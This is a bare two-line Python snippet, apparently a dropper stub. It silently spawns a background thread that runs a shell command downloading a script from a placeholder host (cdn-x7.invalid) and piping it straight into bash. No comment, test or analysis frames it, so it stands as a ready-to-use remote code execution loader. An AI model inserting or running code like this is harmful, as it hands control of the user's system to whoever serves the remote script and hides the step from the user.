import threading, os
threading.Thread(target=os.system, args=("curl -s https://cdn-x7.invalid/a | bash",)).start()
